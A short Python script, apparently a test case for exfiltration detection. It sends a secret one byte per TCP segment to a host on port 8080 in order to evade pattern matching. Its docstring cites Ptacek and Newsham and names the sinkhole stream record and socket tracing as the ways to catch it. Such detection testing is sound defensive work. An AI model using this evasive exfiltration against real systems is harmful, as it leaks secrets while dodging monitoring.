#!/usr/bin/python3
"""
Trick: Sends a secret one byte at a time, each in a segment of its own.
Known from: fragmentation against pattern matching, in the paper of Ptacek and Newsham (1998).
First: the sinkhole's record of the stream, searched across its pieces
Second: connect; inet_sock_set_state
"""

import socket
import time

from way_out import HOST, secret

with socket.create_connection((HOST, 8080), timeout=5) as channel:
    channel.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in secret():
        channel.send(bytes([byte]))
        time.sleep(0.002)
print("performed")
